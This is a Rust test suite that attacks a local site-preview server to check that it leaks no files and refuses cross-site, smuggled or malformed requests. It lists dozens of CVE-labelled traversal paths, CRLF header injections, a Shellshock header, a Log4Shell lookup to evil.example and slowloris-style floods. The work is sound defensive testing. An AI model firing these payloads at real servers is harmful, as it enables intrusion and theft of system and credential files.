//! The preview under attack: what has worked against servers of files, tried over a plain socket. Whatever is sent, no file
//! outside the site comes back, no other site gets anything, and the next honest request is answered.

use std::io::Read;
use std::time::{Duration, Instant};

use tests::{Preview, Response, Site};

/// In files that lie near the site and are no part of it.
const SECRET: &str = "the key is under the mat";

/// A small site among files that nobody should see, with a picture whose name has a space and an accent.
fn site() -> Site {
    Site::small().with(&format!(
        "=== secret.txt\n{SECRET}\n=== .env\nPASSWORD={SECRET}\n=== .git/config\n{SECRET}\n=== content/images/.htpasswd\n{SECRET}\n\
         === content/en/pages/visit/notes.md~\n{SECRET}\n=== content/images/front dóor.svg\n\
         <svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 4 3\"><path d=\"M0 0h4v3z\"/></svg>\n"
    ))
}

/// A preview of such a site, in which somebody has since put a link that leads out.
fn started(site: &Site) -> Preview {
    let preview = Preview::start(site);
    assert_eq!(preview.get("/").status, 200);
    // With the link there is no good build, so it comes after the first: the preview goes on with that one.
    #[cfg(unix)]
    std::os::unix::fs::symlink(site.path("secret.txt"), site.path("content/images/link.txt"))
        .expect("a link");
    preview
}

/// What only a file outside the site can say.
fn leaks(answer: &str) -> bool {
    [SECRET, "root:x:0", "default_language", "[languages", "LD_LIBRARY_PATH=", "CARGO_MANIFEST_DIR="]
        .iter()
        .any(|secret| answer.contains(secret))
}

/// What must be true of every answer, and whether the preview is still there.
fn judge(preview: &Preview, name: &str, answer: &[u8]) {
    let text = String::from_utf8_lossy(answer);
    assert!(!leaks(&text), "{name}: a file got out: {text}");
    let lower = text.to_ascii_lowercase();
    assert!(!lower.contains("access-control-"), "{name}: opened to other sites: {text}");
    assert!(!lower.contains("evil.example"), "{name}: leads or speaks to another site: {text}");
    assert!(!lower.contains("set-cookie"), "{name}: a header was put in: {text}");
    if !answer.is_empty() {
        assert!(text.starts_with("HTTP/1."), "{name}: no answer of a web server: {text}");
        let status = Response::read(answer).status;
        assert!((200..500).contains(&status), "{name}: answered with {status}");
    }
    assert_eq!(preview.get("/").status, 200, "{name}: the next honest request is not answered");
}

/// Paths that have opened files of other servers, with the weakness they used. `GET` each.
const PATHS: &[(&str, &str)] = &[
    ("CWE-22 plain climb", "/../secret.txt"),
    ("CWE-22 many steps", "/../../../../../../../../../../../../etc/passwd"),
    ("CWE-22 from inside", "/visit/../../secret.txt"),
    ("CVE-2000-0884 overlong UTF-8", "/scripts/..%c0%af../..%c0%afsecret.txt"),
    ("CVE-2001-0333 decoded twice", "/scripts/..%255c..%255csecret.txt"),
    ("CVE-2002-0661 encoded backslashes", "/error/%5c%2e%2e%5c%2e%2e%5csecret.txt"),
    ("CVE-2007-0450 backslash as slash", "/\\../secret.txt"),
    ("CVE-2008-2938 overlong dots", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong in three bytes", "/%e0%80%ae%e0%80%ae/secret.txt"),
    ("overlong in four bytes", "/%f0%80%80%ae%f0%80%80%ae/secret.txt"),
    ("CVE-2010-2263 a stream of NTFS", "/secret.txt::$DATA"),
    ("CVE-2014-3744 encoded dots", "/%2e%2e/secret.txt"),
    ("encoded slash", "/..%2fsecret.txt"),
    ("encoded slash and dots", "/%2e%2e%2fsecret.txt"),
    ("upper and lower case", "/%2E%2e%2Fsecret.txt"),
    ("CVE-2015-1164 way out by redirect", "//evil.example/%2e%2e"),
    ("CVE-2017-7234 three slashes", "///evil.example/"),
    ("redirect with a backslash", "/\\evil.example/"),
    ("redirect with an encoded slash", "/%2f%2fevil.example"),
    ("redirect of a folder's name", "//evil.example/visit"),
    ("CVE-2017-14849 through a folder that is not", "/static/../../../a/../../../../etc/passwd"),
    ("CVE-2018-3712 encoded once in serve", "/visit/%2e%2e/%2e%2e/secret.txt"),
    ("CVE-2021-41773 dot and encoded dot", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("CVE-2021-42013 encoded per digit", "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd"),
    ("CVE-2023-34092 double slash", "//.env"),
    ("CVE-2024-23334 a link that leads out", "/images/link.txt"),
    ("CVE-2024-23334 below a static folder", "/static/../../../../../../etc/passwd"),
    ("CVE-2025-30208 a development server's own file door", "/@fs/etc/passwd?import&raw??"),
    ("CVE-2025-31125 the same, inline", "/@fs/etc/passwd?inline&import"),
    ("CVE-2025-32395 a hash in the target", "/@fs/etc/passwd#/../secret.txt"),
    ("nginx alias without its slash", "/images../site.toml"),
    ("path parameters of Tomcat", "/..;/..;/secret.txt"),
    ("path parameter with a name", "/visit;a=b/..;/secret.txt"),
    ("16-bit escapes of IIS", "/%u002e%u002e/secret.txt"),
    ("full-width dots", "/%ef%bc%8e%ef%bc%8e/secret.txt"),
    ("division slash", "/..%e2%88%95secret.txt"),
    ("filters that strip once", "/....//....//secret.txt"),
    ("filters that strip once, single dots", "/..././secret.txt"),
    ("CWE-158 NUL before an ending", "/secret.txt%00.html"),
    ("CWE-158 NUL behind dots", "/..%00/secret.txt"),
    ("an absolute path", "/etc/passwd"),
    ("an absolute path behind a slash", "//etc/passwd"),
    ("a drive", "/C:/secret.txt"),
    ("a share", "/\\\\evil.example\\share"),
    ("a device", "/CON"),
    ("a device with an ending", "/aux.html"),
    ("the process itself", "/../../../../proc/self/environ"),
    ("the process itself, encoded", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
    ("CWE-538 settings", "/.env"),
    ("CWE-538 history", "/.git/config"),
    ("CWE-538 passwords", "/images/.htpasswd"),
    ("CWE-538 an editor's copy", "/visit/notes.md~"),
    ("the sources", "/content/site.toml"),
    ("the sources, from inside", "/visit/../content/site.toml"),
    ("the home folder", "/~root/.profile"),
    ("a page's source", "/visit/prepare.md"),
    ("escape with a sign", "/%+2e%+2e/secret.txt"),
    ("half an escape", "/%"),
    ("an escape that is none", "/%zz"),
    ("not UTF-8", "/%ff%fe"),
    ("a query that names a file", "/?file=../../secret.txt"),
    ("CWE-113 a second header", "/visit%0d%0aSet-Cookie:%20a=b"),
    ("CWE-113 a second header by LF", "/visit%0aSet-Cookie:%20a=b"),
    ("CWE-113 in wide letters", "/visit%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
];

#[test]
fn no_path_that_opened_a_file_elsewhere_opens_one_here() {
    let site = site();
    let preview = started(&site);
    assert!(PATHS.len() >= 60, "{}", PATHS.len());
    for (name, path) in PATHS {
        let request =
            format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nConnection: close\r\n\r\n", preview.port);
        let answer = preview.exchange(request.as_bytes());
        judge(&preview, name, &answer);
        let answer = Response::read(&answer);
        // Nothing at all is at these addresses; what stands behind a question mark is for nobody.
        let expected: &[u16] = if path.starts_with("/?") { &[200] } else { &[400, 404] };
        assert!(expected.contains(&answer.status), "{name}: {path} is answered with {}", answer.status);
        assert_eq!(answer.header("location"), None, "{name}");
    }
    // Far longer than any name of a file.
    for path in ["/".repeat(5000), format!("/{}", "../".repeat(5000)), format!("/{}", "a".repeat(20_000))] {
        let request = format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n\r\n", preview.port);
        let answer = preview.exchange(request.as_bytes());
        judge(&preview, "a very long path", &answer);
        assert!(matches!(Response::read(&answer).status, 404 | 414), "{} bytes", path.len());
    }
}

#[test]
fn addresses_of_the_site_are_answered_however_they_are_written() {
    let site = site();
    let preview = started(&site);
    for (path, status, says) in [
        ("/", 200, "Welcome to the clinic"),
        ("/index.html", 200, "Welcome to the clinic"),
        ("/?utm=1&file=a", 200, "Welcome to the clinic"),
        ("/visit/prepare/", 200, "Get ready"),
        ("/visit/%70repare/", 200, "Get ready"),
        ("/visit/prepare/?print", 200, "Get ready"),
        ("/images/front%20d%C3%B3or.svg", 200, "<svg"),
        ("/images/front%20dóor.svg", 200, "<svg"),
        ("/sitemap.xml", 200, "<urlset"),
        ("/robots.txt", 200, "Sitemap:"),
        ("/nowhere/", 404, "River Clinic"),
    ] {
        let answer = preview.get(path);
        assert_eq!(answer.status, status, "{path}");
        assert!(answer.body.contains(says), "{path}: {}", answer.body);
        assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
        assert_eq!(answer.header("cross-origin-resource-policy"), Some("same-origin"), "{path}");
        assert!(
            answer
                .header("content-security-policy")
                .is_some_and(|policy| policy.contains("frame-ancestors 'none'")),
            "{path}"
        );
    }
    // Without its last slash a page is found as well, on this site and never kept as its new address.
    let moved = preview.get("/visit/prepare");
    assert_eq!((moved.status, moved.header("location")), (308, Some("/visit/prepare/")));
    assert_eq!(moved.header("cache-control"), Some("no-store"));
}

/// A request with the preview's own host.
fn request(preview: &Preview, line: &str, headers: &str) -> Vec<u8> {
    format!("{line}\r\nHost: 127.0.0.1:{}\r\n{headers}\r\n", preview.port).into_bytes()
}

#[test]
fn requests_of_other_sites_get_nothing() {
    let site = site();
    let preview = started(&site);
    let port = preview.port;
    let own = format!("http://127.0.0.1:{port}");
    let refused = [
        ("CVE-2018-14732 another origin", "Origin: http://evil.example\r\n".to_owned()),
        ("CVE-2025-30360 an origin that is a number", "Origin: http://10.0.0.1:8080\r\n".to_owned()),
        ("no origin that can be named", "Origin: null\r\n".to_owned()),
        ("another program on this machine", format!("Origin: http://127.0.0.1:{}\r\n", port ^ 1)),
        ("two origins", format!("Origin: {own}\r\nOrigin: http://evil.example\r\n")),
        (
            "a script of another site",
            "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: script\r\n".to_owned(),
        ),
        (
            "a picture of another site",
            "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: image\r\n".to_owned(),
        ),
        (
            "a frame of another site",
            "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe\r\n".to_owned(),
        ),
        (
            "a page of another port",
            "Sec-Fetch-Site: same-site\r\nSec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n".to_owned(),
        ),
        (
            "CVE-2025-24010 a socket of another site",
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\
          Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: http://evil.example\r\n"
                .to_owned(),
        ),
    ];
    for path in ["/", "/__live/live.js", "/__live/events", "/visit/prepare"] {
        for (name, headers) in &refused {
            let answer = preview.exchange(&request(&preview, &format!("GET {path} HTTP/1.1"), headers));
            judge(&preview, name, &answer);
            let answer = Response::read(&answer);
            assert_eq!(answer.status, 403, "{name}: {path}");
            assert!(!answer.body.contains("clinic") && answer.header("location").is_none(), "{name}: {path}");
        }
    }
    for (name, headers) in [
        (
            "typed by hand",
            "Sec-Fetch-Site: none\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n".to_owned(),
        ),
        (
            "a link of another site",
            "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n"
                .to_owned(),
        ),
        (
            "a part of the preview's own page",
            "Sec-Fetch-Site: same-origin\r\nSec-Fetch-Dest: style\r\n".to_owned(),
        ),
        ("the preview's own script", format!("Origin: {own}\r\nSec-Fetch-Site: same-origin\r\n")),
        ("a program that is no browser", String::new()),
    ] {
        let answer = Response::read(&preview.exchange(&request(&preview, "GET / HTTP/1.1", &headers)));
        assert_eq!(answer.status, 200, "{name}");
        assert!(answer.body.contains("Welcome to the clinic"), "{name}");
    }
}

#[test]
fn the_name_of_another_site_gets_nothing() {
    let site = site();
    let preview = started(&site);
    let port = preview.port;
    for (name, head, status) in [
        ("DNS rebinding", format!("GET / HTTP/1.1\r\nHost: evil.example:{port}\r\n\r\n"), 421),
        (
            "a name that ends like ours",
            format!("GET / HTTP/1.1\r\nHost: localhost.evil.example:{port}\r\n\r\n"),
            421,
        ),
        ("a name with a dot behind", format!("GET / HTTP/1.1\r\nHost: localhost.:{port}\r\n\r\n"), 421),
        ("a person's name in front", format!("GET / HTTP/1.1\r\nHost: a@127.0.0.1:{port}\r\n\r\n"), 421),
        ("a number in another spelling", format!("GET / HTTP/1.1\r\nHost: 2130706433:{port}\r\n\r\n"), 421),
        ("another port", format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n\r\n", port ^ 1), 421),
        ("no port", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_owned(), 421),
        ("the cloud's own address", "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n".to_owned(), 421),
        ("no host", "GET / HTTP/1.1\r\n\r\n".to_owned(), 400),
        ("an empty host", "GET / HTTP/1.1\r\nHost: \r\n\r\n".to_owned(), 421),
        ("two hosts", format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nHost: evil.example\r\n\r\n"), 400),
        (
            "twice the same host",
            format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
            400,
        ),
        ("no host in HTTP/1.0", "GET / HTTP/1.0\r\n\r\n".to_owned(), 400),
        (
            "asked as a proxy",
            format!("GET http://evil.example/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
            421,
        ),
        (
            "asked as a proxy for another port",
            format!("GET http://127.0.0.1:22/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
            421,
        ),
        (
            "our address, another host",
            format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
            421,
        ),
        (
            "a name that another header forwards",
            format!("GET / HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: 127.0.0.1:{port}\r\n\r\n"),
            421,
        ),
    ] {
        let answer = preview.exchange(head.as_bytes());
        judge(&preview, name, &answer);
        let answer = Response::read(&answer);
        assert_eq!(answer.status, status, "{name}");
        assert!(!answer.body.contains("Welcome"), "{name}");
    }
    for head in [
        format!("GET / HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n"),
        format!("GET / HTTP/1.1\r\nHost: LocalHost:{port}\r\n\r\n"),
        format!("GET / HTTP/1.1\r\nHost: [::1]:{port}\r\n\r\n"),
        format!("GET / HTTP/1.0\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
        format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
        // What others are told to believe, nobody here reads.
        format!(
            "GET / HTTP/1.1\r\nHost: localhost:{port}\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n\r\n"
        ),
    ] {
        let answer = preview.exchange(head.as_bytes());
        judge(&preview, &head, &answer);
        assert!(Response::read(&answer).body.contains("Welcome to the clinic"), "{head}");
    }
}

#[test]
fn nothing_can_be_sent_or_asked_for_that_is_no_reading() {
    let site = site();
    let preview = started(&site);
    for (name, line) in [
        ("CVE-2017-12615 putting a file", "PUT /visit/prepare/index.html HTTP/1.1"),
        ("taking a file away", "DELETE /index.html HTTP/1.1"),
        ("a form", "POST / HTTP/1.1"),
        ("CVE-2004-2320 an echo", "TRACE / HTTP/1.1"),
        ("what may be done", "OPTIONS / HTTP/1.1"),
        ("what may be done with anything", "OPTIONS * HTTP/1.1"),
        ("a tunnel", "CONNECT 127.0.0.1:22 HTTP/1.1"),
        ("WebDAV", "PROPFIND / HTTP/1.1"),
        ("WebDAV, moving", "MOVE / HTTP/1.1"),
        ("a verb that is none", "JEFF / HTTP/1.1"),
        ("a verb in small letters", "get / HTTP/1.1"),
    ] {
        let answer = preview.exchange(&request(&preview, line, "X-Secret: echo-me\r\n"));
        judge(&preview, name, &answer);
        let answer = Response::read(&answer);
        let tunnel = line.starts_with("CONNECT");
        assert!(answer.status == 405 || (tunnel && answer.status == 421), "{name}: {}", answer.status);
        assert!(tunnel || answer.header("allow") == Some("GET, HEAD"), "{name}");
        assert!(!answer.body.contains("echo-me"), "{name}");
    }
    // A body could hide a second request: it is never read as one.
    let hidden = format!("GET /visit/prepare/ HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n\r\n", preview.port);
    for (name, line, headers) in [
        ("a body", "GET / HTTP/1.1", format!("Content-Length: {}\r\n", hidden.len())),
        ("a body of a form", "POST / HTTP/1.1", format!("Content-Length: {}\r\n", hidden.len())),
        (
            "CVE-2005-2088 two lengths",
            "GET / HTTP/1.1",
            "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n".to_owned(),
        ),
        ("a body in pieces", "GET / HTTP/1.1", "Transfer-Encoding: chunked\r\n".to_owned()),
        ("pieces of another name", "GET / HTTP/1.1", "Transfer-Encoding: xchunked\r\n".to_owned()),
        ("lengths that differ", "GET / HTTP/1.1", "Content-Length: 0\r\nContent-Length: 70\r\n".to_owned()),
        ("a negative length", "GET / HTTP/1.1", "Content-Length: -1\r\n".to_owned()),
        ("a length with a sign", "GET / HTTP/1.1", "Content-Length: +0\r\n".to_owned()),
        (
            "a body that will come",
            "GET / HTTP/1.1",
            "Content-Length: 999999999999\r\nExpect: 100-continue\r\n".to_owned(),
        ),
        ("a space before the colon", "GET / HTTP/1.1", "Content-Length : 70\r\n".to_owned()),
        (
            "a line that goes on",
            "GET / HTTP/1.1",
            "X: a\r\n b\r\nTransfer-Encoding:\r\n chunked\r\n".to_owned(),
        ),
    ] {
        let bytes = [request(&preview, line, &headers), hidden.clone().into_bytes()].concat();
        let answer = preview.exchange(&bytes);
        judge(&preview, name, &answer);
        let text = String::from_utf8_lossy(&answer);
        assert_eq!(text.matches("HTTP/1.1 ").count(), 1, "{name}: {text}");
        assert!(!text.contains("Get ready"), "{name}: the hidden request was answered");
        assert!(matches!(Response::read(&answer).status, 400 | 405 | 413), "{name}: {text}");
    }
}

#[test]
fn what_is_no_request_is_answered_with_no_or_not_at_all() {
    let site = site();
    let preview = started(&site);
    let host = format!("Host: 127.0.0.1:{}\r\n", preview.port);
    for (name, bytes) in [
        ("HTTP/0.9", b"GET /\r\n\r\n".to_vec()),
        ("HTTP/2 from the start", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec()),
        ("a version that is none", format!("GET / HTTP/9.9\r\n{host}\r\n").into_bytes()),
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03aaaaaaaaaaaaaaaa\r\n\r\n".to_vec()),
        ("SSH", b"SSH-2.0-OpenSSH_9.6\r\n\r\n".to_vec()),
        ("NUL bytes", vec![0; 4096]),
        (
            "CVE-2013-4547 a space and NUL in the path",
            [b"GET /secret.txt \0.html HTTP/1.1\r\n", host.as_bytes(), b"\r\n"].concat(),
        ),
        (
            "CVE-2011-3368 a path without its slash",
            format!("GET @127.0.0.1:22/ HTTP/1.1\r\n{host}\r\n").into_bytes(),
        ),
        ("a path of another scheme", format!("GET file:///etc/passwd HTTP/1.1\r\n{host}\r\n").into_bytes()),
        ("a header with NUL", [b"GET / HTTP/1.1\r\n", host.as_bytes(), b"X: a\0b\r\n\r\n"].concat()),
        ("a header without a name", format!("GET / HTTP/1.1\r\n{host}: a\r\n\r\n").into_bytes()),
        ("only CR", b"GET / HTTP/1.1\rHost: 127.0.0.1\r\r".to_vec()),
        (
            "hundreds of headers",
            format!("GET / HTTP/1.1\r\n{host}{}\r\n", "X: a\r\n".repeat(500)).into_bytes(),
        ),
        ("a huge header", format!("GET / HTTP/1.1\r\n{host}X: {}\r\n\r\n", "a".repeat(1 << 20)).into_bytes()),
    ] {
        let answer = preview.exchange(&bytes);
        judge(&preview, name, &answer);
        if !answer.is_empty() {
            let status = Response::read(&answer).status;
            assert!(matches!(status, 400 | 404 | 414 | 421 | 431 | 505), "{name}: {status}");
        }
    }
}

#[test]
fn headers_that_broke_other_servers_change_nothing() {
    let site = site();
    let preview = started(&site);
    let plain = preview.get("/").body;
    for (name, headers) in [
        ("CVE-2011-3192 hundreds of ranges", format!("Range: bytes=0-{}\r\n", ",5-9".repeat(300))),
        ("CVE-2015-1635 a range to the end of numbers", "Range: bytes=0-18446744073709551615\r\n".to_owned()),
        ("CVE-2017-7529 a range before the start", "Range: bytes=-17208,-9223372036854758792\r\n".to_owned()),
        ("CVE-2014-6271 a function for a shell", "User-Agent: () { :;}; /bin/cat /etc/passwd\r\n".to_owned()),
        ("CVE-2019-5418 a file to accept", "Accept: ../../../../../../etc/passwd{{\r\n".to_owned()),
        ("CVE-2021-44228 a name to look up", "User-Agent: ${jndi:ldap://evil.example/a}\r\n".to_owned()),
        ("CVE-2016-5385 a proxy", "Proxy: http://evil.example/\r\n".to_owned()),
        (
            "another path in a header",
            "X-Original-URL: /../secret.txt\r\nX-Rewrite-URL: /../secret.txt\r\n".to_owned(),
        ),
        ("another verb in a header", "X-HTTP-Method-Override: DELETE\r\n".to_owned()),
        (
            "a page that is known already",
            "If-None-Match: *\r\nIf-Modified-Since: Sat, 01 Jan 2050 00:00:00 GMT\r\n".to_owned(),
        ),
        (
            "a proxy's word for the client",
            "X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Proto: https\r\n".to_owned(),
        ),
        (
            "another protocol",
            "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                .to_owned(),
        ),
        ("a debugger", "Cookie: XDEBUG_SESSION=1; session=../../secret.txt\r\n".to_owned()),
    ] {
        let answer = preview.exchange(&request(&preview, "GET / HTTP/1.1", &headers));
        judge(&preview, name, &answer);
        let answer = Response::read(&answer);
        assert_eq!((answer.status, answer.body.as_str()), (200, plain.as_str()), "{name}");
    }
    let head = preview.exchange(&request(&preview, "HEAD / HTTP/1.1", ""));
    let head = Response::read(&head);
    assert_eq!((head.status, head.body.as_str()), (200, ""), "HEAD is GET without the page");
    assert_eq!(head.header("content-length"), Some(plain.len().to_string().as_str()));
    let stream = preview.exchange(&request(&preview, "HEAD /__live/events HTTP/1.1", ""));
    assert_eq!(Response::read(&stream).status, 200);
    // Two requests at once, and then the connection is closed as asked.
    let two = [
        request(&preview, "GET /robots.txt HTTP/1.1", ""),
        request(&preview, "GET / HTTP/1.1", "Connection: close\r\n"),
    ];
    let text = String::from_utf8_lossy(&preview.exchange(&two.concat())).into_owned();
    let (robots, home) = (text.find("Sitemap:"), text.find("Welcome to the clinic"));
    assert!(robots.is_some() && robots < home, "{text}");
}

#[test]
fn slow_and_silent_clients_keep_nobody_from_the_preview() {
    let site = site();
    let preview = started(&site);
    // CVE-2007-6750: hundreds that never come to the end of their request.
    let mut slow: Vec<_> = (0..300).map(|_| preview.open(b"GET / HTTP/1.1\r\nX: a")).collect();
    let started = Instant::now();
    assert_eq!(preview.get("/").status, 200);
    assert!(started.elapsed() < Duration::from_secs(20), "an honest reader waits {:?}", started.elapsed());
    let first = &mut slow[0];
    first.set_read_timeout(Some(Duration::from_secs(20))).expect("a timeout can be set");
    assert!(matches!(first.read(&mut [0; 64]), Ok(0)), "the slow one is still waited for");
}

#[test]
fn open_pages_that_follow_leave_room_for_others() {
    let site = site();
    let preview = started(&site);
    let ask = request(&preview, "GET /__live/events HTTP/1.1", "");
    let mut following: Vec<_> = Vec::new();
    let mut refused = 0;
    for _ in 0..80 {
        let mut stream = preview.open(&ask);
        stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a timeout can be set");
        let mut status = [0; 12];
        stream.read_exact(&mut status).expect("an answer");
        match &status[9..] {
            b"200" => following.push(stream),
            b"503" => refused += 1,
            other => panic!("{}", String::from_utf8_lossy(other)),
        }
    }
    assert!((40..80).contains(&following.len()), "{} follow, {refused} do not", following.len());
    assert_eq!(preview.get("/").status, 200);
    following.clear();
    let again = preview.listen_for("/__live/events", "event: state");
    let again = if again.contains("event: state") {
        again
    } else {
        preview.listen_for("/__live/events", "event: state")
    };
    assert!(again.contains("event: state"), "no page can follow any more: {again}");
}
